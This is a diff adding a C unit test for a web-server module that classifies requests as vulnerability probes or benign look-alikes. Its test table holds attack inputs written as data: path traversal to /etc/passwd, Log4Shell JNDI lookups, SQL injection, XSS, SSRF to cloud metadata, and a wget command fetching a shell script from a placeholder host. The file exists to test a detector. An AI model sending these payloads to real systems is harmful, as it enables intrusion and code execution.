@@ -1,0 +1,133 @@
+/* Requests that look for holes, and those that only look alike. */
+#include "unit.h"
+
+#include "enrich/probe.h"
+
+static struct slim_probes *read_list(void)
+{
+    static const char *const paths[] = {"conf/probes.tsv"};
+    struct slim_probes *probes;
+    const char *reason;
+
+    if (slim_probes_read_files(paths, 1, &probes, &reason, pool) != APR_SUCCESS) {
+        fail_msg("%s", reason);
+    }
+    return probes;
+}
+
+static void probes_are_told_by_what_they_ask_for_and_get(void **state)
+{
+    static const struct {
+        const char *resource;
+        uint16_t status;
+        int is_probe;
+    } cases[] = {
+        {"/.env", 404, 1},
+        {"/.env", 200, 0}, /* a site that has it has another trouble */
+        {"/api/.env.production", 403, 1},
+        {"/.git/config", 404, 1},
+        {"/.well-known/security.txt", 404, 0},
+        {"/wp-login.php", 404, 1},
+        {"/wp-login.php", 200, 0}, /* it is a site of that kind */
+        {"/wp-login.php", 302, 0},
+        {"/blog//xmlrpc.php?rsd", 405, 1},
+        {"/wp-content/plugins/x/y.php", 404, 1},
+        {"/wp-content/uploads/2024/01/photo.jpg", 404, 0},
+        {"/phpMyAdmin-5.2.0/index.php", 404, 0},
+        {"/phpmyadmin/index.php", 404, 1},
+        {"/grafana/", 401, 0}, /* who logs in is asked for a password first */
+        {"/grafana/", 404, 1},
+        {"/backup.zip", 404, 1},
+        {"/downloads/backup-guide.zip", 404, 0},
+        {"/boaform/admin/formLogin?username=ec8", 404, 1},
+        {"/actuator/health", 404, 1},
+        {"/config.php.bak", 404, 1},
+        {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 1},
+        {"/HNAP1/", 404, 1},
+        {"/cgi-bin/luci/;stok=/locale", 404, 1},
+        {"/old-page", 404, 0},
+        {"/robots.txt", 404, 0},
+        {"/favicon.ico", 404, 0},
+        {"/", 500, 0},
+
+        {"/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 400, 1},
+        {"/?file=../../../../etc/passwd", 200, 1},
+        {"/..%5c..%5cwindows%5cwin.ini", 200, 1},
+        {"/%252e%252e%252fetc/passwd", 200, 1},
+        {"/?x=${jndi:ldap://198.51.100.1/a}", 200, 1},
+        {"/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D", 200, 1},
+        {"/?id=1+UNION+ALL+SELECT+1,2,3--", 200, 1},
+        {"/?id=1'%20or%20'1'='1", 200, 1},
+        {"/?id=1;drop table users", 200, 0},
+        {"/?id=1');drop%20table%20users", 200, 1},
+        {"/?q=<script>alert(1)</script>", 200, 1},
+        {"/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", 200, 1},
+        {"/?u=http://169.254.169.254/latest/meta-data", 200, 1},
+        {"/index.php?s=/index/\\think\\app/invokefunction", 200, 1},
+        {"/?a=php://input", 200, 1},
+        {"/shell?cd+/tmp;wget+http://198.51.100.1/a.sh", 404, 1},
+
+        {"/search?q=union+of+soviet+select+committees", 200, 0},
+        {"/search?q=how+to+select+a+name+from+a+table", 200, 0},
+        {"/search?q=food+%26+cat+toys", 200, 0},
+        {"/search?q=O'Brien+and+Sons", 200, 0},
+        {"/docs/jndi-and-ldap", 200, 0},
+        {"/blog/how-to-read-etc-passwd", 200, 0},
+        {"/a/../b", 200, 0},
+        {"/scripts/app.js?on=load", 200, 0},
+    };
+    struct slim_probes *probes = read_list();
+    int wrong = 0;
+
+    (void)state;
+    for (size_t i = 0; i < LENGTH_OF(cases); i++) {
+        struct slim_rule_place place = {NULL, 0};
+        if (slim_probes_tell(probes, text_of(cases[i].resource), cases[i].status, &place)
+            != cases[i].is_probe) {
+            print_error("%s %u: %s:%u\n", cases[i].resource, cases[i].status,
+                        place.file ? place.file : "no rule", place.line);
+            wrong++;
+        }
+    }
+    assert_int_equal(0, wrong);
+}
+
+static void own_lines_come_before_and_bad_ones_are_named(void **state)
+{
+    static const struct {
+        const char *line;
+        const char *reason;
+    } cases[] = {
+        {"sometimes\t/x", "line 2: needs refused or always, and an expression"},
+        {"always", "line 2: needs refused or always, and an expression"},
+        {"always\t/x\tmore", "line 2: needs refused or always, and an expression"},
+        {"always\t(", "line 2: "},
+    };
+    const char *paths[] = {scratch_path("probes.tsv"), "conf/probes.tsv"};
+    struct slim_rule_place place;
+    struct slim_probes *probes;
+    const char *reason;
+
+    (void)state;
+    put_file(paths[0], "always\t/honeypot\n", 17);
+    assert_int_equal(APR_SUCCESS, slim_probes_read_files(paths, 2, &probes, &reason, pool));
+    assert_true(slim_probes_tell(probes, text_of("/honeypot"), 200, &place));
+    assert_string_equal(paths[0], place.file);
+    assert_int_equal(1, place.line);
+    for (size_t i = 0; i < LENGTH_OF(cases); i++) {
+        const char *text = apr_pstrcat(pool, "# comment\n", cases[i].line, "\n", NULL);
+        put_file(paths[0], text, strlen(text));
+        assert_int_not_equal(APR_SUCCESS, slim_probes_read_files(paths, 2, &probes, &reason, pool));
+        assert_non_null(strstr(reason, cases[i].reason));
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(probes_are_told_by_what_they_ask_for_and_get),
+        cmocka_unit_test(own_lines_come_before_and_bad_ones_are_named),
+    };
+
+    return RUN_UNIT(tests);
+}
